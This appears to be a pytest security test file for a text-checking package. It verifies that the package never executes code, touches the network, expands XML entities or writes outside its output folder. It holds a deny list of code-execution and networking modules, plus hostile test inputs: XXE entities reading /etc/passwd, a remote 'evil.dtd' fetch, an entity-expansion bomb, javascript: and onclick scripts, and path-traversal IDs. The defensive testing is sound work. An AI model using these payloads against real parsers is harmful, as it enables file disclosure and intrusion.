"""Nothing from the input is ever executed or fetched, and output stays in its folder."""

from __future__ import annotations

import ast
import json
import re
import socket
from pathlib import Path

import pytest

import checker
from checker import files
from checker.load import extract_html_text, iter_articles
from checker.model import Article
from checker.pipeline import run_check
from checker.reference import ReferenceData
from checker.report import write_report

PACKAGE = Path(checker.__file__).resolve().parent

# Calls that run text as code, and modules that deserialise code or open network connections.
FORBIDDEN_CALLS = frozenset({"eval", "exec", "compile", "__import__"})
FORBIDDEN_MODULES = ("pickle", "cPickle", "dill", "marshal", "shelve", "yaml", "urllib", "requests", "http",
                     "httpx", "aiohttp", "socket", "ftplib", "subprocess", "importlib")  # fmt: skip
RE_FORBIDDEN_TEXT = re.compile(
    r"""
    \beval\s*\(                   # eval(
    | \bexec\s*\(                 # exec( (a method named exec would show here too: rename it)
    | \bpickle\b                  # any mention of pickle
    | \byaml\.(?:full_|unsafe_)?load\b  # yaml.load, yaml.full_load, yaml.unsafe_load
    | \bos\.system\b              # a shell
    """,
    re.VERBOSE,
)


def _sources() -> list[Path]:
    files = sorted(PACKAGE.rglob("*.py"))
    assert len(files) > 20, f"package sources not found under {PACKAGE}"
    return files


def _module_root(name: str) -> str:
    return name.split(".")[0]


@pytest.mark.parametrize("path", _sources(), ids=lambda p: p.relative_to(PACKAGE).as_posix())
def test_package_source_has_no_code_execution_or_network_access(path: Path) -> None:
    source = path.read_text(encoding="utf-8")
    tree = ast.parse(source, filename=str(path))
    found: list[str] = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id in FORBIDDEN_CALLS:
            found.append(f"line {node.lineno}: call to {node.func.id}()")
        if isinstance(node, ast.Import):
            found += [
                f"line {node.lineno}: import {a.name}"
                for a in node.names
                if _module_root(a.name) in FORBIDDEN_MODULES
            ]
        if (
            isinstance(node, ast.ImportFrom)
            and node.module
            and _module_root(node.module) in FORBIDDEN_MODULES
        ):
            found.append(f"line {node.lineno}: from {node.module} import ...")
    for number, line in enumerate(source.splitlines(), start=1):
        code = line.split("#", 1)[0]
        if RE_FORBIDDEN_TEXT.search(code):
            found.append(f"line {number}: {line.strip()}")
    assert found == [], f"{path}: {found}"


def test_the_scan_finds_what_it_looks_for() -> None:
    # The scan above must not pass because it looks at nothing.
    sample = "import pickle\nfrom urllib.request import urlopen\nx = eval('1')\n"
    tree = ast.parse(sample)
    calls = [n.func.id for n in ast.walk(tree) if isinstance(n, ast.Call) and isinstance(n.func, ast.Name)]
    imports = [a.name for n in ast.walk(tree) if isinstance(n, ast.Import) for a in n.names]
    assert "eval" in calls and imports == ["pickle"]
    assert RE_FORBIDDEN_TEXT.search("data = pickle.loads(blob)")
    assert RE_FORBIDDEN_TEXT.search("yaml.full_load(s)")


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[tuple[object, ...]]:
    """Any attempt to connect, send or resolve a name is recorded and fails.

    Creating a socket is allowed: urllib3 (imported by trafilatura) opens and closes an
    unconnected IPv6 socket at import time to probe for IPv6 support; no packet leaves.
    """
    attempts: list[tuple[object, ...]] = []

    def refuse(*args: object, **kwargs: object) -> object:
        attempts.append(args[1:] if args and isinstance(args[0], socket.socket) else args)
        raise OSError("network access attempted during a test")

    for name in ("connect", "connect_ex", "sendto", "sendmsg"):
        monkeypatch.setattr(socket.socket, name, refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket, "gethostbyname", refuse)
    return attempts


def test_the_network_guard_catches_a_connection(no_network: list[tuple[object, ...]]) -> None:
    with pytest.raises(OSError, match="network access"), socket.socket() as sock:
        sock.connect(("198.51.100.7", 80))
    assert no_network == [(("198.51.100.7", 80),)]


def _hostile_page(secret: Path) -> str:
    return f"""<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE html [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY local SYSTEM "file://{secret}">
  <!ENTITY remote SYSTEM "http://198.51.100.7/entity.txt">
  <!ENTITY % param SYSTEM "http://198.51.100.7/evil.dtd"> %param;
  <!ENTITY lol "lol&lol;&lol;&lol;&lol;&lol;">
]>
<html><head>
<link rel="stylesheet" href="http://198.51.100.7/style.css">
<script src="http://198.51.100.7/app.js"></script>
<meta http-equiv="refresh" content="0; url=http://198.51.100.7/">
<base href="http://198.51.100.7/">
</head><body>
<img src="http://198.51.100.7/pixel.gif" srcset="http://198.51.100.7/a.png 2x">
<iframe src="http://198.51.100.7/frame.html"></iframe>
<object data="http://198.51.100.7/x.swf"></object>
<p>Passwords: &xxe; Local: &local; Remote: &remote; Laugh: &lol;</p>
<p>Turnout was 64% in the capital, the commission said.</p>
<p onclick="alert(1)">Click <a href="javascript:alert(2)">here</a>.</p>
</body></html>
"""


@pytest.mark.parametrize("suffix", [".html", ".xhtml", ".htm"])
def test_external_entities_and_remote_resources_are_not_fetched_or_expanded(
    tmp_path: Path, no_network: list[tuple[object, ...]], suffix: str
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-TOKEN 99%", encoding="utf-8")
    path = tmp_path / f"page{suffix}"
    path.write_text(_hostile_page(secret), encoding="utf-8")
    (article,) = iter_articles([path])
    assert isinstance(article, Article)
    assert "Turnout was 64%" in article.text
    assert "SECRET" not in article.text and "99%" not in article.text
    assert "root:" not in article.text
    assert "lollol" not in article.text
    assert no_network == []


def test_html_inside_json_is_not_fetched_or_expanded(
    tmp_path: Path, no_network: list[tuple[object, ...]], reference: ReferenceData
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-TOKEN 99%", encoding="utf-8")
    body = _hostile_page(secret).split("?>", 1)[1].lstrip()
    (tmp_path / "feed.jsonl").write_text(
        json.dumps({"id": "j1", "content": "<html>" + body}), encoding="utf-8"
    )
    result = run_check([tmp_path / "feed.jsonl"], reference=reference, keep_text=True)
    (article,) = result.articles
    assert "64%" in article.text and "SECRET" not in article.text
    assert [c.mention.text for c in result.claims] == ["64%"]
    assert no_network == []


def test_extract_html_text_never_touches_the_network(no_network: list[tuple[object, ...]]) -> None:
    text, meta = extract_html_text(
        '<html><head><meta property="og:url" content="http://198.51.100.7/a">'
        '<link rel="canonical" href="http://198.51.100.7/a"></head>'
        "<body><p>Turnout was 64%.</p></body></html>"
    )
    assert text == "Turnout was 64%." and meta.url == "http://198.51.100.7/a"
    assert no_network == []


HOSTILE_IDS = [
    "../../escape",
    "/etc/passwd",
    "..",
    "a/../../b",
    "C:\\Windows\\x",
    "figures/../../y",
    "\x00nul",
]


def test_hostile_article_ids_cannot_steer_output_files(tmp_path: Path, reference: ReferenceData) -> None:
    src = tmp_path / "in"
    src.mkdir()
    rows = [
        {"id": i, "title": i, "text": f"Turnout was {60 + n}% in the capital."}
        for n, i in enumerate(HOSTILE_IDS)
    ]
    (src / "feed.jsonl").write_text("\n".join(json.dumps(r) for r in rows), encoding="utf-8")
    (src / "..evil.txt").write_text("Turnout was 50%.", encoding="utf-8")  # hidden name: skipped
    out = tmp_path / "deep" / "out"
    result = run_check([src], reference=reference)
    assert sorted(a.id for a in result.articles) == sorted(HOSTILE_IDS)
    before = {p for p in tmp_path.rglob("*")}
    write_report(result, out, {"json", "csv", "md", "png", "pdf"})
    created = {p for p in tmp_path.rglob("*")} - before
    assert created, "the report wrote nothing"
    assert all(out in p.parents or p == out or p in out.parents for p in created), sorted(created)
    names = {p.relative_to(out).as_posix() for p in created if out in p.parents}
    allowed = {"findings.json", "findings.csv", "summary.md", "report.pdf", "figures", files.LOCK_NAME}
    assert {n for n in names if not n.startswith("figures/")} <= allowed
    assert all(re.fullmatch(r"figures/[a-z_]+\.png", n) for n in names if n.startswith("figures/")), names
    ids = [a["id"] for a in json.loads((out / "findings.json").read_text(encoding="utf-8"))["articles"]]
    assert sorted(ids) == sorted(HOSTILE_IDS)
